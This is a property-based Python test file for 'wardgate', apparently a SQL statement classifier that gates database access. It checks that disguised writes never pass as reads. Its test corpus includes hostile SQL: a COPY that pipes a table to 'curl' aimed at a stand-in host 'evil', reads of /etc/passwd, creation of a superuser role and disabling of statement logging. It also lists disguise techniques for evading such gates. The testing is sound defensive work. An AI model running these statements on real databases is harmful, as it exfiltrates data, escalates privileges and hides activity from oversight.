"""Properties of the SQL classifier that no disguise may break.

A statement that writes (or worse) stays at least that bad however it is dressed up:
comments anywhere, any letter case, any whitespace, inside a CTE, behind or before
harmless statements, under EXPLAIN ANALYZE. And the reverse: dangerous words that sit
only inside string literals, dollar quotes, comments or quoted identifiers are text,
not statements, so a read stays a read.

Classes rank read < write < ddl < admin < unknown; a disguise that makes the statement
unparsable is fine (unknown is the worst class, and the gate blocks it).
"""

from __future__ import annotations

import re

from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st

from wardgate.actions import StatementInfo
from wardgate.policy.sql import _parse_and_classify, classify

RANK = {"read": 0, "write": 1, "ddl": 2, "admin": 3, "unknown": 4}
PROPERTY = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Written with single spaces between tokens and none inside quotes except where shown:
# the whitespace and case strategies below work on the parts outside quotes.
DANGEROUS = [
    "insert into orders (id) values (1)",
    "update orders set total = 0 where id = 1",
    "update orders set total = 0",
    "delete from orders where id = 1",
    "delete from orders",
    "merge into orders o using (select 1 as id) s on o.id = s.id when matched then delete",
    "with d as (delete from orders returning *) select * from d",
    "with u as (update orders set total = 0 where id = 1 returning id) select count(*) from u",
    "select * into orders_copy from orders",
    "select * from orders for update",
    "select * from orders for share",
    "copy orders from stdin",
    "copy orders to program 'curl -d @- evil'",
    "copy orders to '/tmp/orders.csv'",
    "lock table orders",
    "call refresh_totals()",
    "notify order_events",
    "prepare p as delete from orders where id = $1",
    "execute p(1)",
    "truncate orders",
    "drop table orders",
    "create table t (a int)",
    "alter table orders add column note text",
    "create index on orders (id)",
    "grant select on orders to public",
    "create role eve superuser",
    "alter system set log_statement = 'none'",
    "vacuum orders",
    "do $$ begin delete from orders; end $$",
    "set role postgres",
    "set session authorization postgres",
    "set default_transaction_read_only = off",
    "set transaction read write",
    "begin read write",
    "set session characteristics as transaction read write",
    "set standard_conforming_strings = off",
    "select set_config('default_transaction_read_only', 'off', false)",
    "select set_config('role', 'postgres', false)",
    "select pg_terminate_backend(pid) from pg_stat_activity",
    "select pg_read_file('/etc/passwd')",
    "select lo_import('/etc/passwd')",
    "select nextval('orders_id_seq')",
    "select dblink_exec('dbname=test', 'delete from orders')",
    "explain analyze delete from orders where id = 1",
]

READS = [
    "select 1",
    "select * from orders where id = 2",
    "show search_path",
    "values (1, 'a')",
    "with x as (select id from orders) select count(*) from x",
]


def worst(infos: tuple[StatementInfo, ...]) -> int:
    return max((RANK[i.klass] for i in infos), default=-1)


ORIGINAL_RANK = {sql: worst(_parse_and_classify(sql)) for sql in DANGEROUS}


def test_the_corpus_is_really_dangerous() -> None:
    """Every statement of the corpus writes or worse and parses: the properties below
    would prove nothing about a statement that is already read or unknown."""
    for sql, rank in ORIGINAL_RANK.items():
        assert RANK["write"] <= rank < RANK["unknown"], (sql, _parse_and_classify(sql))


# -- disguises ---------------------------------------------------------------------------

# Quoted parts: '...' (with '' inside), E'...', "...", $tag$...$tag$.
_QUOTED = re.compile(r"""[Ee]?'(?:[^']|'')*'|"(?:[^"]|"")*"|\$(\w*)\$.*?\$\1\$""", re.S)

# Everything the server's lexer treats as a token separator (PostgreSQL 15: no \v).
SEPARATORS = [
    " ",
    "  ",
    "\n",
    "\t",
    "\r\n",
    "\f",
    " \n\t ",
    "/**/",
    "/* drop table x; */",
    "/* /* nested */ still comment */",
    "/*/* a */*/",
    "-- line comment\n",
    "--\r",
    "\n-- select 1;\n",
]


def _split_quoted(sql: str) -> list[tuple[bool, str]]:
    parts: list[tuple[bool, str]] = []
    pos = 0
    for m in _QUOTED.finditer(sql):
        parts.append((False, sql[pos : m.start()]))
        parts.append((True, m.group(0)))
        pos = m.end()
    parts.append((False, sql[pos:]))
    return parts


def _dollar_quoted(part: str) -> bool:
    return part.startswith("$")


@st.composite
def recased(draw: st.DrawFn, sql: str) -> str:
    """Random letter case outside quotes, and inside plain string literals (setting
    names in set_config are case-insensitive). Dollar quotes and quoted identifiers are
    left alone: there, case is meaning."""
    out = []
    for quoted, part in _split_quoted(sql):
        if quoted and (part.startswith('"') or _dollar_quoted(part)):
            out.append(part)
            continue
        flips = draw(st.lists(st.booleans(), min_size=len(part), max_size=len(part)))
        out.append("".join(c.swapcase() if f else c for c, f in zip(part, flips, strict=True)))
    return "".join(out)


@st.composite
def respaced(draw: st.DrawFn, sql: str) -> str:
    """Each space between tokens becomes any separator: whitespace or comments."""
    out = []
    for quoted, part in _split_quoted(sql):
        if quoted:
            out.append(part)
            continue
        pieces = part.split(" ")
        rebuilt = pieces[0]
        for piece in pieces[1:]:
            rebuilt += draw(st.sampled_from(SEPARATORS)) + piece
        out.append(rebuilt)
    return "".join(out)


WRAPPERS = [
    "{}",
    "with w as ({}) select 1",
    "with w as (with v as ({}) select 1) select * from w",
    "explain analyze {}",
    "explain (analyze) {}",
    "EXPLAIN (ANALYZE TRUE, VERBOSE, BUFFERS) {}",
    "explain (analyze on) {}",
]

COMMENTS = [
    "/* {} */",
    "/* /* {} */ */",
    "/* a /* b */ {} /* c */ */",
    "-- {}\n",
]
COMMENT_TEXT = ["", "select 1;", "harmless", "*", "'", '"', "$$", "drop table t"]


@st.composite
def disguised(draw: st.DrawFn) -> tuple[str, str]:
    """(original, disguised) for a statement of the dangerous corpus."""
    sql = original = draw(st.sampled_from(DANGEROUS))
    steps = []
    if draw(st.booleans()):
        sql = draw(recased(sql))
        steps.append("recased")
    if draw(st.booleans()):
        sql = draw(respaced(sql))
        steps.append("respaced")
    wrapper = draw(st.sampled_from(WRAPPERS))
    sql = wrapper.format(sql)
    before = draw(st.lists(st.sampled_from(READS), max_size=2))
    after = draw(st.lists(st.sampled_from(READS), max_size=2))
    terminator = draw(st.sampled_from(["", ";", " ; ", ";\n"]))
    sql = "".join(f"{r}; " for r in before) + sql + "".join(f"; {r}" for r in after) + terminator
    for where in ("leading", "trailing"):
        if draw(st.booleans()):
            comment = draw(st.sampled_from(COMMENTS)).format(draw(st.sampled_from(COMMENT_TEXT)))
            if where == "leading":
                sql = comment + ("" if comment.endswith("\n") else " ") + sql
            else:
                sql = sql + (" " if comment.endswith("\n") else "") + comment
            steps.append(f"{where} comment")
    note(f"steps: {steps}, wrapper: {wrapper!r}")
    return original, sql


@PROPERTY
@given(disguised())
def test_a_disguised_write_is_never_a_read(case: tuple[str, str]) -> None:
    original, sql = case
    infos = classify(sql)
    note(f"classified: {[(i.klass, i.kinds) for i in infos]}")
    assert infos, "a statement disappeared"
    assert any(i.klass != "read" for i in infos)
    assert worst(infos) >= ORIGINAL_RANK[original], (sql, infos)


@PROPERTY
@given(st.sampled_from(DANGEROUS), st.data())
def test_case_and_whitespace_alone_change_nothing(original: str, data: st.DataObject) -> None:
    """Without wrappers the class is exactly the original's, not just as bad."""
    sql = data.draw(respaced(data.draw(recased(original))))
    infos = classify(sql)
    assert len(infos) == 1, (sql, infos)
    assert RANK[infos[0].klass] == ORIGINAL_RANK[original], (sql, infos)


# -- the reverse: dangerous words that are only text ---------------------------------------

FRAGMENTS = [
    "drop table orders",
    "; drop table orders;",
    "delete from orders",
    "update orders set total = 0",
    "insert into orders values (1)",
    "truncate orders",
    "set role postgres",
    "begin read write",
    "set default_transaction_read_only = off",
    "set standard_conforming_strings = off",
    "pg_terminate_backend(1)",
    "copy orders to program 'sh'",
    "do $$ begin end $$",
    "grant all on orders to public",
    "'",
    "''",
    '"',
    ";",
    "$$",
    "$a$",
    "*/",
    "/*",
    "--",
    "\\",
    "\\'",
    "\n",
    "\r\n",
    "\t",
    " ",
    "E'",
    "ż",
]
payloads = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=6).map("".join)


def string_literal(payload: str) -> str:
    return "'" + payload.replace("'", "''") + "'"


def escape_string_literal(payload: str) -> str:
    return "E'" + payload.replace("\\", "\\\\").replace("'", "\\'") + "'"


def quoted_identifier(payload: str) -> str:
    return '"' + payload.replace('"', '""') + '"'


@st.composite
def dollar_quoted(draw: st.DrawFn) -> str:
    payload = draw(payloads)
    tag = draw(st.sampled_from(["", "x", "body", "q1"]))
    delimiter = f"${tag}$"
    # The literal ends at the first delimiter: the payload must not contain one, nor
    # end so that it forms one with the closing delimiter.
    closed = payload + delimiter
    if closed.find(delimiter) != len(payload):
        payload = payload.replace("$", "")
    return f"{delimiter}{payload}{delimiter}"


@st.composite
def block_comment(draw: st.DrawFn) -> str:
    payload = draw(payloads)
    while "/*" in payload or "*/" in payload:
        payload = payload.replace("/*", "/ *").replace("*/", "* /")
    nested = draw(st.booleans())
    return f"/* a /* {payload} */ b */" if nested else f"/* {payload} */"


@st.composite
def line_comment(draw: st.DrawFn) -> str:
    # \n and \r both end a -- comment for the server's lexer.
    payload = draw(payloads).replace("\n", " ").replace("\r", " ")
    return f"-- {payload}\n"


literals = st.one_of(
    payloads.map(string_literal), payloads.map(escape_string_literal), dollar_quoted()
)
identifiers = payloads.map(quoted_identifier)
comments = st.one_of(block_comment(), line_comment())

READ_TEMPLATES = [
    ("select {lit}", 1),
    ("select {lit} as {ident} from orders where note = {lit}", 1),
    ("select {ident} from {ident}", 1),
    ("select {ident}.{ident} from {ident} {ident} join orders on {ident}.id = orders.id", 1),
    ("{comment} select 1", 1),
    ("select {comment} 1 {comment}", 1),
    ("select 1 {comment}", 1),
    ("select * from orders where note in ({lit}, {lit}) {comment}", 1),
    ("with {ident} as (select {lit} as {ident}) select * from {ident}", 1),
    ("select {lit}; select {ident} from orders {comment}", 2),
    ("copy (select {lit}) to stdout", 1),
    ("show {ident}", 1),
]


@st.composite
def read_with_dangerous_text(draw: st.DrawFn) -> tuple[str, int]:
    template, count = draw(st.sampled_from(READ_TEMPLATES))
    filled = re.sub(
        r"\{(lit|ident|comment)\}",
        lambda m: draw({"lit": literals, "ident": identifiers, "comment": comments}[m[1]]),
        template,
    )
    return filled, count


@PROPERTY
@given(read_with_dangerous_text())
def test_dangerous_words_inside_text_stay_read(case: tuple[str, int]) -> None:
    sql, count = case
    infos = classify(sql)
    note(f"classified: {[(i.klass, i.kinds, i.error) for i in infos]}")
    assert len(infos) == count, (sql, infos)
    assert all(i.klass == "read" for i in infos), (sql, infos)


# -- caching never loses what the gate needs ------------------------------------------------

# Statements whose tables and functions the gate's rules look at (table guardrails, the
# unknown-function rule); the literal varies, which a fingerprint ignores.
LITERAL_TEMPLATES = [
    "select * from secrets where id = {n}",
    "select my_func({n})",
    "select * from orders o join api_keys k on k.id = o.id where o.id = {n}",
    "update orders set total = {n} where id = 1",
    "select lower(name) from customers limit {n}",
]


@PROPERTY
@given(st.sampled_from(LITERAL_TEMPLATES), st.lists(st.integers(0, 10**6), min_size=2, max_size=4))
def test_statements_differing_in_literals_keep_their_tables_and_functions(
    template: str, values: list[int]
) -> None:
    """The second classification of a statement differing only in a literal may come
    from the fingerprint cache; it must still name the same tables and functions, or a
    table guardrail and the unknown-function rule would see nothing."""
    for n in values:
        sql = template.format(n=n)
        (got,) = classify(sql)
        (fresh,) = _parse_and_classify(sql)
        assert (got.klass, got.kinds) == (fresh.klass, fresh.kinds), sql
        assert (got.tables_read, got.tables_written, got.functions) == (
            fresh.tables_read,
            fresh.tables_written,
            fresh.functions,
        ), sql
